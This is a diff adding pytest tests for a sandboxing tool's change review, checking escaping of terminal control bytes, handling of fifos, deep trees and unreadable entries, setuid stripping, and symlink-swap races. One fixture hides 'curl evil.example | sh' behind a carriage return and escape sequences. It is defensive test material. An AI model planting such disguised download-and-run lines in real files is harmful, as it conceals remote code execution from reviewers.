@@ -315,3 +315,207 @@ def test_a_warm_sandbox_checkpoints_and_rolls_back(project):
     assert pending.added == (str(root / "a.txt"),) and not pending.deleted
     pending.apply()
     assert (root / "a.txt").read_text() == "first\n"
+
+
+# --- the review cannot lie or hang (issue 29, G5-G8; issue 30) ---------------------------------
+
+def review(run_id: str, *flags: str) -> subprocess.CompletedProcess:
+    """`stockade changes` as a user runs it, bytes as printed; never waits for ever."""
+    return subprocess.run([sys.executable, "-m", "stockade", "changes", run_id, *flags],
+                          capture_output=True, timeout=120)
+
+
+def raw_controls(shown: bytes) -> set[int]:
+    """The control bytes in what was printed, but newline and tab (C1 ones, UTF-8 encoded,
+    and ESC, CR, BS... as themselves)."""
+    text = shown.decode("utf-8", "replace")
+    return {ord(c) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) < 0xa0
+            or c in "\u202e\u2066\u2028"}
+
+
+def test_the_review_escapes_what_would_fool_a_terminal(ws):
+    """G5: a line erased on screen by a CR or an escape sequence, in a file's content and in
+    names, is shown escaped (and `apply` lands the exact bytes); a directory's mode change is
+    shown, and applied."""
+    root, _ = ws
+    (root / "sub").mkdir()
+    os.chmod(root / "sub", 0o755)
+    evil = "echo safe\rcurl evil.example | sh\x1b[2K\u202e\n"
+    result = overlay(root, "printf 'echo safe\\rcurl evil.example | sh"
+                           "\\033[2K\\342\\200\\256\\n' > run.sh; "
+                           "echo x > \"$(printf 'na\\033[8mme\\rhidden')\"; "
+                           "chmod 700 sub; chmod 750 .")
+    assert result.returncode == 0, result.stderr
+    pending = result.changes
+    shown = review(pending.id)
+    assert shown.returncode == 0, shown.stderr
+    assert raw_controls(shown.stdout) == set(), shown.stdout
+    text = shown.stdout.decode()
+    assert "+echo safe\\x0dcurl evil.example | sh\\x1b[2K\\u202e\n" in text
+    assert "na\\x1b[8mme\\x0dhidden" in text
+    assert f"M {root}/sub/ (mode 755 -> 700)" in text
+    assert f"M {root}/ (mode 755 -> 750)" in text  # (the root's own mode)
+    assert raw_controls(pending.diff().encode()) == set()
+    assert raw_controls(json.dumps(json.loads(review(pending.id, "--json").stdout)).encode()) \
+        == set()
+    pending.apply()
+    assert (root / "run.sh").read_bytes() == evil.encode()
+    assert (root / "na\x1b[8mme\rhidden").read_text() == "x\n"
+    assert stat.S_IMODE(os.stat(root / "sub").st_mode) == 0o700
+    assert stat.S_IMODE(os.stat(root).st_mode) == 0o750
+
+
+def test_a_fifo_in_the_overlay_neither_hangs_the_review_nor_lands(ws):
+    """G6: a fifo the run left is listed as one (never opened: the review and diff() end),
+    and apply refuses it, typed, naming it."""
+    root, _ = ws
+    result = overlay(root, "mkfifo pipe && mkfifo \"$(printf 'p\\033[2Ki\\rpe')\" && "
+                           "echo ok > ok.txt")
+    assert result.returncode == 0, result.stderr
+    pending = result.changes
+    shown = review(pending.id)  # (timeout=120: a hang fails here)
+    assert shown.returncode == 0, shown.stderr
+    assert f"A {root}/pipe (a fifo)".encode() in shown.stdout
+    api = subprocess.run([sys.executable, "-c", "import sys; from stockade.lifecycle import "
+                          "changes; sys.stdout.write(changes.load(sys.argv[1]).diff())",
+                          pending.id], capture_output=True, text=True, timeout=120)
+    assert api.returncode == 0 and f"{root}/pipe" in api.stdout, api.stderr
+    with pytest.raises(ChangesError) as refused:
+        pending.apply()
+    assert refused.value.code == "changes_refused" and f"{root}/pipe" in str(refused.value)
+    cli = subprocess.run([sys.executable, "-m", "stockade", "apply", pending.id],
+                         capture_output=True, timeout=120)
+    assert cli.returncode == 1 and b"changes_refused" in cli.stderr, cli.stderr
+    assert b"p\\x1b[2Ki\\x0dpe: a device, fifo or socket" in cli.stderr
+    assert raw_controls(cli.stderr) == set() and b"Traceback" not in cli.stderr
+    assert os.listdir(root) == []
+    pending.discard()
+
+
+def test_a_tree_too_deep_is_shown_as_such_refused_by_apply_and_discarded(ws):
+    """G7: a 1200-deep tree breaks neither the review nor discard (no recursion), and what
+    the review cannot show, apply refuses, typed, naming it."""
+    root, _ = ws
+    result = overlay(root, "i=0; while [ $i -lt 1200 ]; do mkdir d && cd d || exit 1; "
+                           "i=$((i+1)); done; echo deep > f")
+    assert result.returncode == 0, result.stderr
+    pending = result.changes
+    shown = review(pending.id)
+    assert shown.returncode == 0, shown.stderr
+    assert b"not shown: deeper than" in shown.stdout and b"Traceback" not in shown.stderr
+    assert pending.unshown and "deeper than" in pending.unshown[0]
+    with pytest.raises(ChangesError) as refused:
+        pending.apply()
+    assert refused.value.code == "changes_refused" and "deeper than" in str(refused.value)
+    assert os.listdir(root) == []
+    cli = subprocess.run([sys.executable, "-m", "stockade", "discard", pending.id],
+                         capture_output=True, text=True, timeout=120)
+    assert cli.returncode == 0, cli.stderr
+    assert not os.path.lexists(pending.path)
+
+
+def test_unreadable_entries_are_reviewed_or_refused_never_a_traceback(ws):
+    """G7: directories and files the run made mode 000. As root they are read and applied;
+    rootless their owner cannot read them: the review says so, apply refuses them, typed,
+    naming them, and discard removes them."""
+    root, _ = ws
+    result = overlay(root, "mkdir locked && echo inside > locked/f && chmod 000 locked && "
+                           "echo closed > closed && chmod 000 closed")
+    assert result.returncode == 0, result.stderr
+    pending = result.changes
+    shown = review(pending.id)
+    assert shown.returncode == 0 and b"Traceback" not in shown.stderr, shown.stderr
+    if os.getuid() == 0:
+        assert sorted(pending.added) == [str(root / "closed"), str(root / "locked"),
+                                         str(root / "locked/f")]
+        pending.apply()
+        assert stat.S_IMODE(os.stat(root / "locked").st_mode) == 0
+        assert (root / "locked" / "f").read_text() == "inside\n"
+        return
+    assert sorted(pending.unshown) == [f"{root}/closed: a file that cannot be read",
+                                       f"{root}/locked: a directory that cannot be read"]
+    with pytest.raises(ChangesError) as refused:
+        pending.apply()
+    assert refused.value.code == "changes_refused"
+    assert str(root / "locked") in str(refused.value) and str(root / "closed") in str(
+        refused.value)
+    assert os.listdir(root) == []
+    pending.discard()
+    assert not os.path.lexists(pending.path)
+
+
+def test_deletions_under_a_replaced_directory_are_listed_and_applied(ws):
+    """G8: `rm -rf d; mkdir -p d/s` leaves d opaque and d/s a plain directory of the upper
+    layer: what d/s held is gone, listed and applied."""
+    root, _ = ws
+    (root / "d" / "s").mkdir(parents=True)
+    (root / "d" / "s" / "x").write_text("x\n")
+    (root / "d" / "s" / "t").mkdir()
+    (root / "d" / "s" / "t" / "y").write_text("y\n")
+    (root / "d" / "other").write_text("o\n")
+    result = overlay(root, "rm -rf d && mkdir -p d/s && ls -A d/s")
+    assert result.returncode == 0 and result.stdout == "", (result.stdout, result.stderr)
+    pending = result.changes
+    assert sorted(pending.deleted) == [str(root / p) for p in ("d/other", "d/s/t", "d/s/x")]
+    assert f"D {root}/d/s/t/ (with the 1 entries below it)" in review(pending.id).stdout.decode()
+    pending.apply()
+    assert sorted(os.listdir(root / "d")) == ["s"] and os.listdir(root / "d" / "s") == []
+
+
+def test_apply_never_lands_setuid_or_setgid_bits(ws):
+    """Issue 30: no set-user-id or set-group-id bit lands, root and rootless: not on what the
+    run made in a set-group-id directory of the host (the kernel gives the bit), not on what
+    it tried to chmod (its seccomp filter refuses), nor on what an upper layer holds anyway."""
+    root, _ = ws
+    (root / "tool").write_text("#!/bin/sh\n")
+    os.chmod(root / "tool", 0o755)
+    (root / "shared").mkdir()
+    os.chmod(root / "shared", 0o2775)
+    result = overlay(root, "mkdir shared/made && echo n > shared/made/n && "
+                           "(chmod 4755 tool; mkdir g && chmod 2775 g; echo f > g/f; "
+                           "chmod 6755 g/f) 2>/dev/null; true")
+    assert result.returncode == 0, result.stderr
+    pending = result.changes
+    upper = pending.upper(0)
+    assert os.lstat(os.path.join(upper, "shared", "made")).st_mode & stat.S_ISGID
+    with open(os.path.join(upper, "planted"), "w") as f:
+        f.write("x")
+    os.chmod(os.path.join(upper, "planted"), 0o6755)
+    os.mkdir(os.path.join(upper, "planted-dir"))
+    os.chmod(os.path.join(upper, "planted-dir"), 0o3775)
+    assert "mode 2775 -> 775" not in review(pending.id).stdout.decode()  # (shown as landed)
+    pending.apply()
+    for path in ("tool", "g", "g/f", "shared/made", "shared/made/n", "planted", "planted-dir"):
+        mode = os.lstat(root / path).st_mode
+        assert not mode & (stat.S_ISUID | stat.S_ISGID), (path, oct(mode))
+    assert stat.S_IMODE(os.stat(root / "planted").st_mode) == 0o755
+    assert stat.S_IMODE(os.stat(root / "planted-dir").st_mode) == 0o1775
+
+
+def test_apply_never_walks_through_a_link_swapped_in_after_the_check(ws, monkeypatch):
+    """Issue 30: the host swaps a directory of the workspace for a link to outside between
+    the conflict check and the writes: apply stops, typed, naming the path, and nothing is
+    written outside."""
+    from stockade.lifecycle import changeapply
+
+    root, outside = ws
+    (root / "sub").mkdir()
+    result = overlay(root, "echo planted > sub/new.txt && mkdir sub/deeper && "
+                           "echo x > sub/deeper/f")
+    assert result.returncode == 0, result.stderr
+    checked = changeapply.conflicts
+
+    def then_swapped(*args):
+        found = checked(*args)
+        os.rmdir(root / "sub")
+        os.symlink(outside, root / "sub")
+        return found
+
+    monkeypatch.setattr(changeapply, "conflicts", then_swapped)
+    with pytest.raises(ChangesError) as stopped:
+        result.changes.apply()
+    assert stopped.value.code == "changes_conflict"
+    assert str(root / "sub") in str(stopped.value)
+    assert os.listdir(outside) == []
+    assert os.path.isdir(result.changes.path)  # kept pending
+    result.changes.discard()
